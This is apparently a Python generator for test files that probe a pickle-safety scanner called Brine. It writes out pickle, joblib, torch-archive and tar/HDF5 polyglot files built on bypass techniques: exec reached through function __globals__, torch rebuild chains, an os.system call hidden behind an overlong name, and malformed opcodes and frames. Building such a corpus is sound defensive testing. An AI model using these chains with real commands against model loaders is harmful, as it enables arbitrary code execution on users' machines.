"""Writes files that once got past the scanner, or nearly: `python generate.py`.

They were made in an attack on it. All that any of them does when it is loaded is to create a file `brine-marker` in the
current folder, or to read a file that every system has; some only change an object or can't be loaded at all. None
may be `safe`. Needs h5py.
"""

import gzip
import io
import pathlib
import struct

import containers
import h5py
import held
from archives import *
from pieces import *

FILES = pathlib.Path(__file__).resolve().parent / "files"
SOURCE = "open('brine-marker','w').close()"
TEMPLATE = SOURCE + "\n" + "".join(
    f"def {name}(self,*a,**k): pass\n" for name in ("_parse_args", "_parse_args_rvs", "_parse_args_stats"))
DISTRIBUTION = name("scipy.stats._continuous_distns", "norm_gen")
NAMESPACE = name("types", "SimpleNamespace")
FORMATTER = name("string", "Formatter")
# Longer than any name that Brine reads.
LONG = b"\x80\x04cposixpath\n" + b"os.path." * 700 + b"os.system\n(" + text("touch brine-marker") + b"tR."
# The Python unpickler alone knows such keys of the memo.
HUGE_KEY = b"\x80\x04Np99999999999999999999\n0" + EVIL


def namespace(**members):
    return build(call(NAMESPACE), members)


def results_of_calls():
    meta = trampoline(TYPE, "M", (TYPE, name("pandas.core.flags", "Flags")), {})
    keys = trampoline(meta, "X", (OBJECT,), {"_keys": ["__getattribute__"]})
    getattribute = call(GETITEM, keys, "__getattribute__")
    inner = trampoline(getattribute, hidden(name("statistics", "mean")), "__globals__")
    builtins = call(GETITEM, inner, "__builtins__")
    yield "pandas-exec.pkl", trampoline(call(GETITEM, builtins, "exec"), SOURCE)
    yield "type-of-result.pkl", call(call(TYPE, hidden(OBJECT)), "X", (OBJECT,), {"a": 1})
    yield "reconstructor.pkl", call(
        name("copyreg", "_reconstructor"), name("builtins", "int"), namespace(__new__=name("builtins", "pow")), 3)
    yield "import-only.pkl", trampoline(name("dateutil.tz.tz", "tzfile"), "/etc/localtime")
    yield "class-changed.pkl", build(hidden(FORMATTER), (None, {"get_value": hidden(name("builtins", "abs"))}))
    yield "function-changed.pkl", build(hidden(name("statistics", "mean")), hidden((None, {"__defaults__": (1, 2)})))
    yield "logger.pkl", build(call(name("logging", "getLogger")), {"disabled": True})
    arguments = call(name("builtins", "tuple"), [TYPE, "X", (), {}])
    partial = Piece(opcodes(PARTIAL) + opcodes(arguments) + b"R")
    yield "computed-arguments.pkl", call(GETITEM, call(DEFAULTDICT, partial), 0)
    made = call(name("copyreg", "__newobj__"), PARTIAL, TYPE, "X", (), {})
    yield "made-partial.pkl", call(GETITEM, call(DEFAULTDICT, made), 0)
    codec = call(name("builtins", "tuple"), ["uryyb", "rot13"])
    yield "codec.pkl", Piece(opcodes(name("_codecs", "encode")) + opcodes(codec) + b"R")
    yield "iter.pkl", call(name("builtins", "iter"), name("builtins", "min"), 1)
    rebuild = name("torch._tensor", "_rebuild_from_type_v2")
    yield "rebuild.pkl", call(
        rebuild, rebuild, name("torch", "Tensor"),
        (name("copyreg", "__newobj__"), DISTRIBUTION, (DISTRIBUTION,), {"_parse_arg_template": TEMPLATE}), None)


def states():
    state = {"_parse_arg_template": TEMPLATE, "_ctor_param": ()}
    yield "computed-state.pkl", build(new(DISTRIBUTION), hidden(state))
    ordered = new(name("collections", "OrderedDict"))
    ordered = Piece(opcodes(ordered) + b"(" + text("_parse_arg_template") + text(TEMPLATE) + b"u")
    yield "ordered-state.pkl", build(new(DISTRIBUTION), ordered)
    yield "class-replaced.pkl", build(new(name("string", "Template")), hidden((None, {"__class__": hidden(FORMATTER)})))


def broken_starts():
    """What follows an opcode that Brine refuses, and a reader of Python's does not."""
    bytearray_append = b"\x96\x01\0\0\0\0\0\0\0a(K\x01e0"
    evil = b"\x80\x04" + bytearray_append + EVIL
    yield "second.pkl", b"\x80\x04N." + evil
    yield "long-name.pkl", LONG
    yield "nested-long-name.pkl", pickled(call(name("torch.storage", "_load_from_bytes"), LONG))
    yield "early-error.joblib.gz", gzip.compress(b"N0" + HUGE_KEY, mtime=0)
    yield "extension-only.pkl", b"N.\x80\x02\x82\x02."
    yield "memo-only.pkl", b"N\x94.h\0)R."
    for file, data in (("torch-bytearray.pt", evil), ("torch-long-name.pt", LONG)):
        yield file, zipped({"archive/data.pkl": data, "archive/version": b"3\n"})
    yield "member.zip", zipped({"model.joblib": HUGE_KEY})


def polyglots():
    evil = b"\x80\x04" + EVIL
    end = b"\0" * 1024
    length = struct.pack("<I", 1024 - 7)
    yield "tar-and-pickle.pkl", header(b"\x80\x04X" + length, 0, b"0") + b"\0" * 512 + b"0" + EVIL
    yield "tar-unknown-type.pt", header(b"storages", len(evil), b"Z") + padded(evil) + end
    record = b"comment=a\n12 size=0\nb\n"
    record = b"%d " % (len(record) + 3) + record
    yield "tar-pax-newline.pt", (
        header(b"x", len(record), b"x") + padded(record) + header(b"zeros", 1024, b"0") + end
        + header(b"storages", len(evil), b"0") + padded(evil) + end)
    yield "tar-sparse.pt", header(b"storages", len(evil), b"S") + padded(evil) + end
    output = io.BytesIO()
    with h5py.File(output, "w", userblock_size=512) as file:
        file["a"] = [1, 2, 3]
    data = bytearray(output.getvalue())
    start = b"(dp0\n0" + EVIL
    data[: len(start)] = start
    yield "hdf5-user-block.pkl", bytes(data)
    dtype = build(call(name("numpy", "dtype"), "V8", False, True), (3, "|", None, None, None, 8, 1, 0))
    dtype = build(dtype, (3, "|", None, None, None, 16, 1, 0))
    wrapper = build(new(name("joblib.numpy_pickle", "NumpyArrayWrapper")), {
        "subclass": name("numpy", "ndarray"), "shape": (1,), "order": "C", "dtype": dtype, "allow_mmap": False})
    tail = b"0" + EVIL
    second = b"X" + struct.pack("<I", 3 + len(tail)) + b"BBB"
    first = b"X" + struct.pack("<I", 3 + len(second) + len(tail)) + b"AAA"
    yield "joblib-two-states.joblib", b"\x80\x04" + opcodes(wrapper) + first + second + tail + b"."
    # A frame that reaches over another's end, and over the end of the file.
    yield "frames.pkl", bytes.fromhex("8005950f000000000000009509000000000000004e2e")


def main():
    FILES.mkdir(exist_ok=True)
    for cases in (results_of_calls, states, broken_starts, polyglots, *held.CASES, *containers.CASES):
        for file, value in cases():
            (FILES / file).write_bytes(pickled(value) if isinstance(value, Piece) else value)


if __name__ == "__main__":
    main()
